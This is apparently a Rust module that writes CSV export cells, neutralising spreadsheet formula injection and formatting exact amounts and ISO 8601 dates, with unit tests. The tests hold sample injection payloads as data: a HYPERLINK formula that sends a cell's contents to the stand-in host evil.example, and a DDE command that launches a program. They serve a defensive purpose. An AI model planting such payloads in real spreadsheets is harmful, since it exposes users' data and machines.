//! What goes into one cell: text neutralised against formula injection, amounts written
//! exactly from minor units, instants as ISO 8601 text. Each writes into a buffer the
//! caller reuses, so a million rows cost no allocation per cell.
//!
//! The injection rule (OWASP's "CSV injection"): a text cell whose first character is
//! `=`, `+`, `-`, `@`, TAB or CR could be read by Excel or LibreOffice as a formula (or
//! DDE call), so it gets a leading `'`, which both show as text. Numbers are never text
//! cells here: an amount such as `-1.000` is written as a number, never prefixed.

use std::borrow::Cow;

/// Whether a text cell must be neutralised: it starts with a character a spreadsheet
/// reads as the start of a formula.
pub fn is_dangerous(text: &str) -> bool {
    matches!(
        text.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// The text as a CSV cell may hold it: prefixed with `'` when [`is_dangerous`], else
/// borrowed unchanged.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if is_dangerous(text) {
        let mut out = String::with_capacity(text.len() + 1);
        out.push('\'');
        out.push_str(text);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(text)
    }
}

/// [`neutralise`] into `buf` (cleared first): the row path's allocation-free form.
pub fn neutralise_into<'a>(buf: &'a mut Vec<u8>, text: &str) -> &'a [u8] {
    buf.clear();
    if is_dangerous(text) {
        buf.push(b'\'');
    }
    buf.extend_from_slice(text.as_bytes());
    buf
}

/// `minor` units with `decimals` decimals as a plain decimal (`-12.500`, `1200`), into
/// `buf` (cleared first). Exact: integer arithmetic only.
pub fn amount_into(buf: &mut Vec<u8>, minor: i64, decimals: u32) {
    buf.clear();
    let negative = minor < 0;
    // i64::MIN has no positive i64: unsigned_abs covers it.
    let mut n = minor.unsigned_abs();
    // Digits least significant first, at least decimals + 1 of them ("0.005").
    let mut digits = [0u8; 24];
    let mut len = 0;
    while n > 0 || len <= decimals as usize {
        digits[len] = b'0' + (n % 10) as u8;
        n /= 10;
        len += 1;
    }
    if negative {
        buf.push(b'-');
    }
    for i in (0..len).rev() {
        buf.push(digits[i]);
        if i == decimals as usize && i != 0 {
            buf.push(b'.');
        }
    }
}

/// Days since 1970-01-01 to a civil (proleptic Gregorian) date: Howard Hinnant's
/// `civil_from_days`, exact for every i64 day the ledger can hold.
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

fn push2(buf: &mut Vec<u8>, n: u32) {
    buf.push(b'0' + (n / 10) as u8);
    buf.push(b'0' + (n % 10) as u8);
}

/// Unix ms as ISO 8601 in UTC with its offset: `2026-11-03T14:22:05Z`, with `.123`
/// milliseconds only when there are some. Into `buf` (cleared first).
pub fn instant_into(buf: &mut Vec<u8>, ms: i64) {
    buf.clear();
    let days = ms.div_euclid(86_400_000);
    let in_day = ms.rem_euclid(86_400_000);
    let (y, m, d) = civil_from_days(days);
    if (0..=9999).contains(&y) {
        let y = y as u32;
        push2(buf, y / 100);
        push2(buf, y % 100);
    } else {
        // Outside what ISO 8601's 4-digit years hold: still readable, never wrong.
        buf.extend_from_slice(format!("{y:+}").as_bytes());
    }
    buf.push(b'-');
    push2(buf, m);
    buf.push(b'-');
    push2(buf, d);
    buf.push(b'T');
    let secs = (in_day / 1000) as u32;
    push2(buf, secs / 3600);
    buf.push(b':');
    push2(buf, secs / 60 % 60);
    buf.push(b':');
    push2(buf, secs % 60);
    let millis = (in_day % 1000) as u32;
    if millis != 0 {
        buf.push(b'.');
        buf.push(b'0' + (millis / 100) as u8);
        push2(buf, millis % 100);
    }
    buf.push(b'Z');
}

/// Unix ms as an Excel serial date-time (days since 1899-12-30, the fraction the time of
/// day), in UTC. Excel keeps no time zone; the column's header says UTC.
pub fn excel_serial(ms: i64) -> f64 {
    // 25,569 days from Excel's epoch (1899-12-30) to 1970-01-01.
    25_569.0 + ms as f64 / 86_400_000.0
}

/// `minor / 10^decimals` as an f64 when that number reads back as exactly the same
/// decimal (Excel shows a double's shortest round-trip text): at most 15 significant
/// digits always do; beyond, the double is checked. `None`: write the amount as text.
pub fn exact_f64(minor: i64, decimals: u32) -> Option<f64> {
    let scale = 10_i64.pow(decimals);
    let value = minor as f64 / scale as f64;
    if minor.unsigned_abs() <= 999_999_999_999_999 {
        return Some(value);
    }
    // Shortest round-trip text of the double, compared digit for digit with the amount.
    let mut expected = Vec::new();
    amount_into(&mut expected, minor, decimals);
    shortest_matches(value, &expected).then_some(value)
}

/// Whether the double's shortest round-trip text names the same decimal as `expected`
/// (which has trailing zeros to the currency's decimals; the shortest text has none).
fn shortest_matches(value: f64, expected: &[u8]) -> bool {
    let shortest = format!("{value}");
    let trim = |s: &[u8]| -> Vec<u8> {
        let s = s.to_vec();
        if s.contains(&b'.') {
            let end = s.iter().rposition(|&b| b != b'0').map_or(0, |i| i + 1);
            let mut t = s[..end].to_vec();
            if t.last() == Some(&b'.') {
                t.pop();
            }
            t
        } else {
            s
        }
    };
    trim(shortest.as_bytes()) == trim(expected)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(text: &str) -> String {
        neutralise(text).into_owned()
    }

    #[test]
    fn formula_starts_are_prefixed() {
        assert_eq!(
            n("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        );
        assert_eq!(n("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(n("-1+2"), "'-1+2");
        assert_eq!(n("@SUM(1)"), "'@SUM(1)");
        assert_eq!(n("\t=1"), "'\t=1");
        assert_eq!(n("\r=1"), "'\r=1");
        assert_eq!(n("=1"), "'=1");
    }

    #[test]
    fn harmless_text_is_untouched() {
        for text in [
            "",
            "ORD-1",
            "a=b",
            "1-2",
            "محمد عبدالله",
            "=",
            "'quoted",
            " =1",
            "x@y.example",
        ] {
            let expected = if text == "=" { "'=" } else { text };
            assert_eq!(n(text), expected, "{text:?}");
        }
        // Arabic stays as it is, byte for byte.
        let arabic = "شركة الخليج – فرع الكويت";
        assert!(matches!(neutralise(arabic), Cow::Borrowed(_)));
        let mut buf = Vec::new();
        assert_eq!(neutralise_into(&mut buf, arabic), arabic.as_bytes());
        assert_eq!(neutralise_into(&mut buf, "-5"), b"'-5");
    }

    #[test]
    fn amounts_are_exact_with_the_currency_decimals() {
        let mut buf = Vec::new();
        let mut a = |minor, d| {
            amount_into(&mut buf, minor, d);
            String::from_utf8(buf.clone()).unwrap()
        };
        assert_eq!(a(12_500, 3), "12.500");
        assert_eq!(a(-12_500, 3), "-12.500");
        assert_eq!(a(5, 3), "0.005");
        assert_eq!(a(-5, 2), "-0.05");
        assert_eq!(a(0, 3), "0.000");
        assert_eq!(a(1200, 0), "1200");
        assert_eq!(a(0, 0), "0");
        assert_eq!(a(-7, 0), "-7");
        assert_eq!(a(i64::MIN, 3), "-9223372036854775.808");
        assert_eq!(a(9_999_999_999_999_999, 3), "9999999999999.999");
    }

    #[test]
    fn amounts_agree_with_money_display() {
        use crate::money::{Amount, Currency};
        let mut buf = Vec::new();
        for c in Currency::all() {
            for minor in [0, 1, -1, 9, 10, 999, 1000, 123_456_789, -40_500] {
                amount_into(&mut buf, minor, c.decimals());
                assert_eq!(
                    std::str::from_utf8(&buf).unwrap(),
                    Amount::from_minor(minor, c).to_string()
                );
            }
        }
    }

    #[test]
    fn instants_are_iso_8601_utc() {
        let mut buf = Vec::new();
        let mut t = |ms| {
            instant_into(&mut buf, ms);
            String::from_utf8(buf.clone()).unwrap()
        };
        assert_eq!(t(0), "1970-01-01T00:00:00Z");
        assert_eq!(t(1_780_000_000_000), "2026-05-28T20:26:40Z");
        assert_eq!(t(1_780_000_000_123), "2026-05-28T20:26:40.123Z");
        assert_eq!(t(1_780_000_000_007), "2026-05-28T20:26:40.007Z");
        assert_eq!(t(-1), "1969-12-31T23:59:59.999Z");
        assert_eq!(t(951_782_400_000), "2000-02-29T00:00:00Z");
        // Same text as the facade's own RFC 3339 for whole seconds.
        for ms in [
            0_i64,
            1_764_547_200_000,
            1_798_761_599_000,
            4_102_444_800_000,
        ] {
            assert_eq!(t(ms), crate::sources::format_ms(ms));
        }
    }

    #[test]
    fn excel_serials() {
        assert_eq!(excel_serial(0), 25_569.0);
        assert_eq!(excel_serial(86_400_000 / 2), 25_569.5);
    }

    #[test]
    fn exact_doubles_only() {
        assert_eq!(exact_f64(12_500, 3), Some(12.5));
        assert_eq!(exact_f64(1, 3), Some(0.001));
        assert_eq!(
            exact_f64(-999_999_999_999_999, 3),
            Some(-999_999_999_999.999)
        );
        // 16 significant digits that no double holds: text.
        assert_eq!(exact_f64(9_999_999_999_999_999, 3), None);
        // 2^53 + 1 units at scale 0: no double.
        assert_eq!(exact_f64(9_007_199_254_740_993, 0), None);
        assert_eq!(
            exact_f64(9_007_199_254_740_992, 0),
            Some(9_007_199_254_740_992.0)
        );
    }
}
